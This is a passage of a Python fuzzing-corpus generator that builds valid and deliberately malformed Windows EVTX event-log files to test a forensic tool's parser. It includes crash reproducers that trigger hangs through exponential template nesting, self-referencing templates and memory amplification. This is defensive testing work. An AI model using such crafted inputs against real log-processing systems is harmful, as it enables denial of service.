                     data("IpAddress", "203.0.113.7"), data("IpPort", "49152"),
                     data("AuthenticationPackageName", "NTLM")]))


def inline_tokens():
    """An inline record with every other token: character and entity
    references, CDATA, a processing instruction, positional Data, UserData,
    non-ASCII text, a surrogate pair, an unpaired surrogate and a NUL."""
    return event(
        system(1, level=2, channel="Application", provider="MSExchange Common",
               computer="EXSRV01.example.test"),
        El("EventData", children=[
            data(None, "positional one"),
            data(None, "a ", Tok("charref", 0x263A), Tok("entity", "lt"), Tok("entity", "amp"),
                 Tok("entity", "gt"), Tok("entity", "quot"), Tok("entity", "apos"), Tok("entity", "nbsp"),
                 " b"),
            data(None, Tok("cdata", "<![x]> in CDATA"), Tok("pi", "xml-stylesheet", "href=\"x\"")),
            data(None, "caf\u00e9 \u4e2d\u6587 \ud83d\ude00 \ud800 lone", "\x00nul\x00"),
            El("Binary", children=["DEADBEEF"])]))


def inline_userdata():
    return event(
        system(1102, channel="Security", provider="Microsoft-Windows-Eventlog", rid=7,
               when="not a time"),
        El("UserData", children=[
            El("LogFileCleared", [("xmlns", "http://manifests.microsoft.com/win/2004/08/windows/eventlog")],
               [El("SubjectUserSid", children=["S-1-5-21-1111111111-2222222222-3333333333-500"]),
                El("SubjectUserName", children=["Administrator"]),
                El("Nested", children=[El("Deeper", children=["x"])]),
                El("Empty")])]))


def tmpl_4624(values=None, tid=0x4624):
    """A Security 4624 template: System from substitutions, named Data."""
    d = event(
        El("System", children=[
            El("Provider", [("Name", "Microsoft-Windows-Security-Auditing"), ("Guid", Sub(14, 0x0f))]),
            El("EventID", children=[Sub(3, 0x06)]), El("Version", children=[Sub(4, 0x04)]),
            El("Level", children=[Sub(0, 0x04)]), El("Task", children=[Sub(2, 0x06)]),
            El("Keywords", children=[Sub(5, 0x15)]),
            El("TimeCreated", [("SystemTime", Sub(6, 0x11))]),
            El("EventRecordID", children=[Sub(10, 0x0a)]),
            El("Correlation", [("ActivityID", Sub(7, 0x0f, True))]),
            El("Execution", [("ProcessID", Sub(8, 0x08)), ("ThreadID", Sub(9, 0x08))]),
            El("Channel", children=["Security"]), El("Computer", children=[Sub(11, 0x01)]),
            El("Security", [("UserID", Sub(12, 0x13, True))])]),
        El("EventData", children=[
            data("SubjectUserSid", Sub(13, 0x13)), data("TargetUserName", Sub(15, 0x01)),
            data("LogonType", Sub(16, 0x08)), data("IpAddress", Sub(17, 0x01, True)),
            data("LogonGuid", Sub(18, 0x0f)), data("ProcessName", Sub(19, 0x01)),
            data("Privileges", Sub(20, 0x81)), data("Missing", Sub(40, 0x01, True))]))
    if values is None:
        values = values_4624(41)
    return Tmpl(tid, d, values)


def values_4624(rid, user="alice", ip="203.0.113.7"):
    return [(0x04, u8(0)), (0x04, u8(0)), (0x06, u16(12544)), (0x06, u16(4624)), (0x04, u8(2)),
            (0x15, u64(0x8020000000000000)), (0x11, u64(FT_BASE + 7123456789)), (0x00, b""),
            (0x08, u32(612)), (0x08, u32(1264)), (0x0a, u64(rid)), (0x01, w16("EXSRV01.example.test")),
            (0x13, SID_SYSTEM), (0x13, SID_USER), (0x0f, GUID_B), (0x01, w16(user)), (0x08, u32(3)),
            (0x01, w16(ip)), (0x0f, GUID_A), (0x01, w16("C:\\Windows\\System32\\svchost.exe")),
            (0x81, w16("SeDebugPrivilege\0SeTcbPrivilege\0\0SeBackupPrivilege\0"))]


def tmpl_all_types():
    """One Data per value type, fixed-size and array types included."""
    vals = [
        (0x00, b""), (0x01, w16("string")), (0x02, b"ansi\x80text\x00tail"), (0x03, u8(0xF6)),
        (0x04, u8(250)), (0x05, struct.pack("<h", -2)), (0x06, u16(65535)),
        (0x07, struct.pack("<i", -7)), (0x08, u32(4294967295)), (0x09, struct.pack("<q", -9)),
        (0x0a, u64(2 ** 64 - 1)), (0x0b, struct.pack("<f", 1.5)), (0x0c, struct.pack("<d", -2.25e300)),
        (0x0d, u32(1)), (0x0e, b"\x00\x01\xfe\xff"), (0x0f, GUID_A), (0x10, u64(0x1234)),
        (0x11, u64(FT_BASE)), (0x12, struct.pack("<8H", 2021, 3, 3, 3, 2, 11, 4, 123)),
        (0x13, SID_USER), (0x14, u32(0xBEEF)), (0x15, u64(0xDEADBEEFCAFE)),
        (0x81, w16("one\0two\0three")), (0x84, b"\x01\x02\x03"), (0x86, u16(1) + u16(2)),
        (0x88, u32(1) + u32(2) + u32(3)), (0x8a, u64(1) + u64(2)), (0x8f, GUID_A + GUID_B),
        (0x91, u64(FT_BASE) + u64(0)), (0x94, u32(0x10) + u32(0x20)), (0x95, u64(1) + u64(0xFFFF)),
        (0x90, u64(5)), (0x92, b"\x00" * 16), (0x93, SID_SYSTEM), (0x8d, u32(0) + u32(1)),
        (0x30, b"unknown type"), (0x10, u32(0x55)), (0x13, u8(1) + u8(9) + bytes(6) + u32(1)),
        (0x11, b"\xff" * 8), (0x11, u64(0)), (0x0d, u32(0)), (0x12, b"\xff" * 16),
    ]
    d = event(system(4688, channel="Security"),
              El("EventData", children=[data("T%02x_%d" % (t, i), Sub(i, t)) for i, (t, _) in enumerate(vals)]))
    return Tmpl(0x7777, d, vals)


def tmpl_nested():
    """A template whose UserData is a 0x21 value: a fragment holding
    another template instance, itself with a 0x21 value."""
    inner_def = El("Inner", children=[El("Val", children=[Sub(0, 0x01)]), Sub(1, 0x21)])
    inner = Tmpl(0x21, inner_def, [(0x01, w16("inner value")),
                                   (0x21, nested(El("Leaf", [("Name", "leafname")], ["leaf text"])))])
    d = event(El("System", children=[El("EventID", children=[Sub(0, 0x06)]),
                                     El("Channel", children=[Sub(1, 0x01)]),
                                     El("Computer", children=["EXSRV01"])]),
              El("UserData", children=[Sub(2, 0x21)]),
              El("EventData", children=[Sub(3, 0x21, True), data("After", Sub(1, 0x01))]))
    return Tmpl(0x2121, d, [(0x06, u16(4103)), (0x01, w16("Microsoft-Windows-PowerShell/Operational")),
                            (0x21, nested(El("ScriptBlock", children=[El("Text", children=["Get-Mailbox"]),
                                                                      inner]))),
                            (0x21, lambda e: e.fragment(
                                [El("Data", [("Name", "n21")], ["v21"])]))])


def chain_21(depth, fan):
    """Binary XML nested depth levels deep: every level is a template
    instance (definition D, referred to by offset after the first) whose
    value 0 is a 0x21 fragment holding the next level. D substitutes value
    0 fan times."""
    d = El("Level", children=[Sub(0, 0x21)] * fan + [El("Tail", children=[Sub(1, 0x01)])])

    def level(k):
        if k == 0:
            return El("Bottom", children=["end"])
        return Tmpl(0x2100 + fan, d, [(0x21, nested(level(k - 1))), (0x01, w16("L%d" % k))])
    return event(El("System", children=[El("EventID", children=["1"])]),
                 El("EventData", children=[level(depth)]))


def ev_seeds():
    s = {}
    c_inline = ev_chunk([inline_logon(), inline_tokens(), inline_userdata()])
    s["inline-three-records"] = ev_file([c_inline])
    t1 = tmpl_4624()
    c_tmpl = ev_chunk([lambda e: e.fragment(t1, eof=False),
                       lambda e: e.fragment(tmpl_4624(values_4624(42, "bob", "198.51.100.9")), eof=False),
                       lambda e: e.fragment(tmpl_all_types(), eof=False),
                       lambda e: e.fragment(tmpl_nested(), eof=False)], first_id=41)
    s["template-records"] = ev_file([c_tmpl])
    s["mixed-records"] = ev_file([ev_chunk([inline_logon(), lambda e: e.fragment(tmpl_4624(), eof=False),
                                            inline_userdata(),
                                            lambda e: e.fragment(tmpl_4624(values_4624(43, "carol")),
                                                                 eof=False)])])
    s["chunk-inline"] = c_inline
    s["chunk-templates"] = c_tmpl

    # two chunk slots: a whole first chunk, then a short one
    full = ev_chunk([inline_logon(), lambda e: e.fragment(tmpl_4624(), eof=False)], pad=True)
    s["two-chunks"] = ev_file([full, ev_chunk([inline_userdata(), inline_tokens()], first_id=3)])
    # an empty (zero) chunk slot is skipped quietly; a bad magic is reported
    s["zero-chunk-then-chunk"] = ev_file([bytes(EV_CHUNK), c_inline])
    s["bad-chunk-magic-then-chunk"] = ev_file([b"ElfChnX\x00" + full[8:], c_inline])
    stale = ev_patch(s["two-chunks"], 42, "<H", 1)
    s["chunk-count-stale"] = ev_patch(stale, 124, "<I", zlib.crc32(stale[:120]))

    # many fields: more than EXH_EVTX_MAX_FIELDS Data elements
    s["many-fields"] = ev_file([ev_chunk([event(system(4104, channel="Microsoft-Windows-PowerShell/Operational"),
                                                El("EventData", children=[data("F%d" % i, "v")
                                                                          for i in range(600)]))])])
    # elements nested deeper than the walker's stack
    deep = El("Bottom", children=["x"])
    for i in range(70):
        deep = El("N", children=[deep])
    s["deep-elements"] = ev_file([ev_chunk([event(system(1), El("UserData", children=[deep])),
                                            inline_logon()])])
    # names longer than the 63 bytes kept, non-ASCII names
    s["long-names"] = ev_file([ev_chunk([event(system(1), El("UserData", children=[
        El("N" * 100, [("A" * 80, "v")], ["long"]), El("N\u00e9\u4e2d", children=["x"])]))])])
    # nested 0x21 values: a chain deeper than EXH_EVTX_MAX_DEPTH
    s["nested-21-chain"] = ev_file([ev_chunk([lambda e: e.fragment(chain_21(40, 1))])])
    s["nested-21-fan2"] = ev_file([ev_chunk([lambda e: e.fragment(chain_21(6, 2))])])

    # the header and CRCs
    good = s["inline-three-records"]
    s["file-crc-bad"] = ev_patch(good, 124, "<I", 0x12345678)
    s["file-crc-bad-flag4"] = ev_patch(ev_patch(good, 124, "<I", 0x12345678), 120, "<I", 4)
    s["file-magic-bad"] = b"ElfFilf\x00" + good[8:]
    s["file-header-only"] = good[:4096]
    s["file-short"] = good[:200]
    s["chunk-header-crc-bad"] = ev_patch(good, 4096 + 124, "<I", 0)
    s["chunk-data-crc-bad"] = ev_patch(good, 4096 + 52, "<I", 1)
    s["chunk-crc-bad-flag4"] = ev_patch(ev_patch(good, 4096 + 52, "<I", 1), 4096 + 120, "<I", 4)
    s["chunk-free-offset-huge"] = ev_file([ev_rechunk_crc(ev_patch(c_inline, 48, "<I", 0xFFFFFFF0))])
    s["chunk-free-offset-small"] = ev_file([ev_rechunk_crc(ev_patch(c_inline, 48, "<I", 100))])
    r0 = struct.unpack_from("<I", c_inline, 512 + 4)[0]
    s["chunk-free-offset-mid-record"] = ev_file([ev_rechunk_crc(ev_patch(c_inline, 48, "<I", 512 + r0 + 30))])

    # torn and damaged records
    s["record-truncated"] = good[:len(good) - 40]
    s["record-size-copy-wrong"] = ev_file([ev_rechunk_crc(ev_patch(c_inline, 512 + r0 - 4, "<I", r0 + 1))])
    s["record-size-copy-zero"] = ev_file([ev_rechunk_crc(ev_patch(c_inline, 512 + r0 - 4, "<I", 0))])
    s["record-magic-bad"] = ev_file([ev_rechunk_crc(ev_patch(c_inline, 512 + r0, "<I", 0x2a2b))])
    s["record-size-small"] = ev_file([ev_rechunk_crc(ev_patch(c_inline, 512 + 4, "<I", 27))])
    s["record-size-huge"] = ev_file([ev_rechunk_crc(ev_patch(c_inline, 512 + 4, "<I", 0x7FFFFFFF))])
    s["record-empty-xml"] = ev_file([ev_chunk([lambda e: None, inline_logon()])])
    s["garbage-after-records"] = ev_file([ev_chunk([inline_logon()], raw_tail=b"\x01\x02garbage" * 8)])
    s["zeros-after-records"] = ev_file([ev_chunk([inline_logon()], raw_tail=bytes(64))])

    # damaged binary XML
    def raw(b):
        return lambda e: e.buf.extend(b)

    frag = b"\x0f\x01\x01\x00"
    s["xml-damaged"] = ev_file([ev_chunk([
        raw(frag + b"\xff"),                                   # unknown token
        raw(frag + b"\x01\x00\x00"),                           # element cut short
        raw(frag + b"\x01" + u32(0) + u32(0xFFFFFF00)),        # name offset past the chunk
        raw(frag + b"\x01" + u32(0) + u32(600) + b"\x02"),     # name offset in this record
        raw(b"\x04\x04\x02\x03"),                              # closes without opens
        raw(b"\x05\x01" + u16(3) + w16("top") + b"\x06" + u32(0)),  # text and attribute at the top
        raw(frag + b"\x05\x01" + u16(0xFFFF)),                 # text count past the end
        raw(frag + b"\x07" + u16(0x7FFF) + b"\x08"),           # CDATA past the end, char ref cut
        raw(frag + b"\x0b" + u16(0x7FFF)),                     # PI data past the end
        raw(frag + b"\x0d" + u16(0)),                          # substitution cut short
        raw(frag + b"\x0d" + u16(5) + b"\x01"),                # substitution outside a template
        raw(frag + b"\x00" + frag + b"\xee"),                  # complete fragment, then damage
        raw(frag + b"\x00\x0f"),                               # fragment header cut short
        raw(frag),                                             # no EOF
        raw(b"\x00"),                                          # EOF only
    ])])
    t = tmpl_4624()
    s["template-damaged"] = ev_file([ev_chunk([
        lambda e: e.fragment(Tmpl(1, t.definition, t.values, count=0xFFFFFFFF), eof=False),
        lambda e: e.fragment(Tmpl(2, t.definition, t.values, count=1025), eof=False),
        lambda e: e.fragment(Tmpl(3, t.definition, t.values, count=len(t.values) + 3), eof=False),
        lambda e: e.fragment(Tmpl(4, t.definition, t.values, def_offset=0xFFFFFFF0), eof=False),
        lambda e: e.fragment(Tmpl(5, t.definition, t.values, def_offset=100), eof=False),
        lambda e: e.fragment(Tmpl(1, t.definition, t.values[:3]), eof=False),   # too few values
        lambda e: e.fragment(Tmpl(6, El("E", children=[Sub(0xFFFF, 0x01)]), []), eof=False),
        raw(frag + b"\x0c\x01" + u32(9)),                      # instance cut short
        lambda e: e.fragment(t, eof=False),
    ])])
    # a definition whose size runs past the chunk; a value whose size runs
    # past the record
    c = ev_chunk([lambda e: e.fragment(tmpl_4624(), eof=False)])
    s["template-size-huge"] = ev_file([ev_rechunk_crc(ev_patch(c, 512 + 24 + 4 + 10 + 20, "<I", 0xFFFFFF00))])
    c = ev_chunk([lambda e: e.fragment(Tmpl(8, El("V", children=[Sub(0, 0x01)]), [(0x01, w16("abc"))]),
                                       eof=False)])
    assert c.count(u16(6) + b"\x01\x00") == 1
    s["template-value-size-huge"] = ev_file([ev_rechunk_crc(c.replace(u16(6) + b"\x01\x00", u16(0xFFF0) + b"\x01\x00"))])
    return s

def ev_crash_inputs():
    """The handwritten fuzz/corpus/evtx/crash-* inputs (bugs the evtx target
    found in src/read/evtx.c). Written only by --evtx-crashes."""
    s = {}
    # a character reference (token 0x08) to a lone surrogate: the value held
    # ED A0 80, which is not UTF-8
    s["crash-charref-surrogate"] = ev_file([ev_chunk([event(system(1), El("EventData", children=[
        data("Name", "a", Tok("charref", 0xD800), "b")]))])])

    # an inline template definition with an empty body, used twice in one
    # record: the second use replays an empty plan (NULL + 0 in replay())
    def two_empty(e):
        e.buf += b"\x0f\x01\x01\x00"
        d = e.pos + 10
        e.buf += b"\x0c\x01" + u32(7) + u32(d) + u32(0) + GUID_A + u32(0) + u32(0)
        e.buf += b"\x0c\x01" + u32(7) + u32(d) + u32(0)
        e.buf += b"\x00"
    s["crash-empty-template-plan"] = ev_file([ev_chunk([two_empty])])

    # nested 0x21 values 16 levels deep whose template substitutes value 0
    # four times: 4^16 walks of a 5.6 KB file (a hang)
    s["crash-nested-21-fanout"] = ev_file([ev_chunk([lambda e: e.fragment(chain_21(16, 4))])])

    # a template definition that instantiates itself (by offset) twice: 2^31
    # walks without any 0x21 value
    d = El("Self")
    t = Tmpl(0x5E1F, d, [])
    d.children = [Tmpl(0x5E1F, d, []), Tmpl(0x5E1F, d, [])]
    s["crash-template-self-reference"] = ev_file([ev_chunk([
        lambda e: e.fragment(event(El("System"), El("EventData", children=[t])))])])

    # one 12 KB binary value substituted 3000 times into one Data element:
    # a 28 KB file gave a 72 MB string (25 KB times 7000 in one chunk: 350 MB)
    d = event(El("System"), El("EventData", children=[data("Big", *([Sub(0, 0x0e)] * 3000))]))
    s["crash-substitution-amplification"] = ev_file([ev_chunk([
        lambda e: e.fragment(Tmpl(0xB16, d, [(0x0e, bytes(12000))]), eof=False)])])

    # 34 records that each use up the per-record work budget between two
    # ordinary ones: the chunk budget runs out and the last, ordinary 4624
    # record is reported as damaged; with needles that skip the heavy records
    # (the trailing byte 21 makes the target's 4th needle "E\0v", from the
    # first record's inline name "Event") the same record decodes
    heavy = lambda e: e.fragment(chain_21(16, 4))
    s["crash-chunk-budget-starves"] = ev_file([ev_chunk(
        [inline_userdata()] + [heavy] * 34 + [inline_logon()])]) + bytes([21])
    return s


def write_all(root):
    sets = {"exlog": exlog_seeds(), "minidump": minidump_seeds(), "match": match_seeds(),
            "scan": scan_seeds(), "code": code_seeds(), "zip": zip_seeds(), "ioc": ioc_seeds(),
            "evtx": ev_seeds()}
    for target, seeds in sets.items():
        d = os.path.join(root, target)
        os.makedirs(d, exist_ok=True)
        for name, data in sorted(seeds.items()):
            with open(os.path.join(d, name), "wb") as f:
                f.write(data)
        print("%s: %d seeds" % (target, len(seeds)))


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "--evtx-crashes":
        os.makedirs(sys.argv[2], exist_ok=True)
        for name, data in sorted(ev_crash_inputs().items()):
            with open(os.path.join(sys.argv[2], name), "wb") as f:
                f.write(data)
        sys.exit(0)
    write_all(sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(__file__), "corpus"))
